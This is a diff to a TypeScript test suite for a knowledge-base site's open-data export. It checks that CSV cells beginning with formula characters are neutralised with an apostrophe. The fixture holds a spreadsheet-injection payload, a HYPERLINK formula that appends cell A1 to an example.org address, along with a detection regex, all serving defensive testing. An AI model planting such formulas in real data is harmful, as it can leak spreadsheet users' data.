@@ -1,4 +1,4 @@
-import { existsSync, readFileSync, statSync, writeFileSync } from 'node:fs';
+import { existsSync, readdirSync, readFileSync, statSync, writeFileSync } from 'node:fs';
 import path from 'node:path';
 import { Ajv2020 } from 'ajv/dist/2020.js';
 import addFormats from 'ajv-formats';
@@ -25,6 +25,10 @@ function idsIn(dir: string): Record<Collection, string[]> {
     themes: content.themes.map((e) => e.id).sort(),
   };
 }
+
+/** Every .csv file under a folder. */
+const csvFilesIn = (dir: string): string[] =>
+  readdirSync(dir, { withFileTypes: true }).flatMap((e) => (e.isDirectory() ? csvFilesIn(path.join(dir, e.name)) : e.name.endsWith('.csv') ? [path.join(dir, e.name)] : [])).sort();
 
 const jsonRecords = (site: BuiltSite, c: Collection) => JSON.parse(readBuilt(site, `data/${c}.json`)) as Node[];
 const csvRows = (site: BuiltSite, c: Collection) => parse(readBuilt(site, `data/${c}.csv`), { bom: true, columns: true }) as Record<string, string>[];
@@ -206,9 +210,34 @@ describe('open data of a build with one more practice, under a base path', () =>
   beforeAll(() => {
     content = copyFixture('valid');
     const source = readFileSync(path.join(content, 'practices', 'timisoara-budget.mdx'), 'utf8');
+    // The added practice's text fields start like spreadsheet formulas; its region has a negative longitude.
+    const frontmatter = [
+      '---',
+      'title: "=Added practice, with a comma and \\"quotes\\""',
+      'summary: "+A fixture practice whose text fields start like spreadsheet formulas."',
+      'region: norte',
+      'city: "-Porto"',
+      'level: municipal',
+      'themes: [participatory-budgeting]',
+      'tools: [fixture-tool]',
+      'institution: "@Fixture Municipality"',
+      'stakeholders: ["=HYPERLINK(\\"https://example.org/\\"&A1)", "\\tTabbed partner", Residents]',
+      'start: 2019-03',
+      'status: demonstrated',
+      'resources:',
+      '  budget: { amount: 500000, currency: EUR, year: 2020 }',
+      'indicators:',
+      '  - { label: "-Turnout change", value: -3.5, unit: percent, year: 2020, source: "https://example.org/votes" }',
+      'sources:',
+      '  - { title: "@Fixture source", url: "https://example.org/votes" }',
+      'contributors: [Fixture editors]',
+      'updated: 2026-05-04',
+      '---',
+    ].join('\n');
+    writeFileSync(path.join(content, 'practices', 'added-practice.mdx'), `${frontmatter}${source.slice(source.indexOf('\n---', 4) + 4)}`);
     writeFileSync(
-      path.join(content, 'practices', 'added-practice.mdx'),
-      source.replace(/^title: .*$/m, 'title: "Added practice, with a comma and \\"quotes\\""').replace(/^updated: .*$/m, 'updated: 2026-05-04'),
+      path.join(content, 'regions', 'norte.yaml'),
+      'name: Norte\ncountry: PT\nnuts: PT11\nlevel: nuts2\npartner:\n  organisation: "+Fixture Partner Agency"\ncoordinates: [41.15, -8.61]\n',
     );
     // Vitest puts Vite's BASE_URL (and MODE, DEV, PROD, SSR) into process.env; passed on to `astro build`,
     // BASE_URL=/ would override the base path. Build without them.
@@ -227,7 +256,7 @@ describe('open data of a build with one more practice, under a base path', () =>
     expect(expected.practices).toContain('added-practice');
     expectIdsMatch(site, expected);
     const added = csvRows(site, 'practices').find((r) => r['id'] === 'added-practice')!;
-    expect(added['title']).toBe('Added practice, with a comma and "quotes"');
+    expect(added['title']).toBe('\'=Added practice, with a comma and "quotes"');
     expect(added['url']).toMatch(/\/kb\/practices\/added-practice\/$/);
     const tool = jsonRecords(site, 'tools').find((t) => t['id'] === 'fixture-tool')!;
     expect(tool['deployments']).toEqual(['added-practice', 'timisoara-budget']);
@@ -241,5 +270,40 @@ describe('open data of a build with one more practice, under a base path', () =>
     const feed = new XMLParser().parse(readBuilt(site, 'rss.xml')) as Node;
     expect(feed['rss']['channel']['item'][0]['link']).toMatch(/\/kb\/practices\/added-practice\/$/);
     expect(readBuilt(site, 'data/index.html')).toContain('href="/kb/data/practices.csv"');
+  });
+
+  it('no CSV cell starts a spreadsheet formula: text gets a leading apostrophe, numbers stay numbers', () => {
+    const files = csvFilesIn(site.dir).map((file) => path.relative(site.dir, file).split(path.sep).join('/'));
+    expect(files).toEqual(expect.arrayContaining([...collections.map((c) => `data/${c}.csv`), 'tables/regions.csv', 'tables/theme-participatory-budgeting.csv']));
+    let neutralised = 0;
+    for (const file of files) {
+      const rows = parse(readBuilt(site, file), { bom: true }) as string[][];
+      for (const [i, row] of rows.entries()) {
+        for (const cell of row) {
+          if (cell.startsWith("'")) neutralised++;
+          const isNumber = cell.trim() !== '' && Number.isFinite(Number(cell));
+          if (!isNumber) expect(cell, `${file} row ${i + 1}`).not.toMatch(/^[=+\-@\t\r\0＝＋－＠]/);
+        }
+      }
+    }
+    expect(neutralised).toBeGreaterThanOrEqual(10);
+
+    const added = csvRows(site, 'practices').find((r) => r['id'] === 'added-practice')!;
+    expect(added).toMatchObject({
+      summary: "'+A fixture practice whose text fields start like spreadsheet formulas.",
+      city: "'-Porto",
+      institution: "'@Fixture Municipality",
+      stakeholders: '\'=HYPERLINK("https://example.org/"&A1); \tTabbed partner; Residents',
+      'indicators.label': "'-Turnout change",
+      'indicators.value': '-3.5',
+      'sources.title': "'@Fixture source",
+    });
+    const norte = csvRows(site, 'regions').find((r) => r['id'] === 'norte')!;
+    expect(norte).toMatchObject({ 'coordinates.latitude': '41.15', 'coordinates.longitude': '-8.61', 'partner.organisation': "'+Fixture Partner Agency" });
+    // The JSON keeps the text as written.
+    expect(jsonRecords(site, 'practices').find((r) => r['id'] === 'added-practice')!['title']).toBe('=Added practice, with a comma and "quotes"');
+    // The tables' CSVs too: the practice's row in its theme's table.
+    const themeRows = parse(readBuilt(site, 'tables/theme-participatory-budgeting.csv'), { bom: true }) as string[][];
+    expect(themeRows.find((row) => row[0]!.includes('Added practice'))).toEqual(expect.arrayContaining(['\'=Added practice, with a comma and "quotes"', "'-Turnout change: -3.5 % (2020)"]));
   });
 });
